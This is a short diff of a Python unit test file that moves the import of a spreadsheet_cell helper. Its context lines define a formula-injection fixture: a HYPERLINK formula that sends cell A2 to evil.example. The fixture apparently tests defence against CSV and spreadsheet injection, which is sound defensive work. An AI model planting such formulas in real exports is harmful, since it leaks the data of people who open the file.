@@ -10,7 +10,7 @@ import pytest
 from sqlalchemy.orm import Session
 
 from guichet.habilitation.models import Habilitation, Organisation
-from guichet.portal.citizen import spreadsheet_cell
+from guichet.spreadsheet import spreadsheet_cell
 from tests.unit.portal.test_citizen import DUBOIS, World, journal, sign_in_as, utc
 
 EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"Voir le détail")'
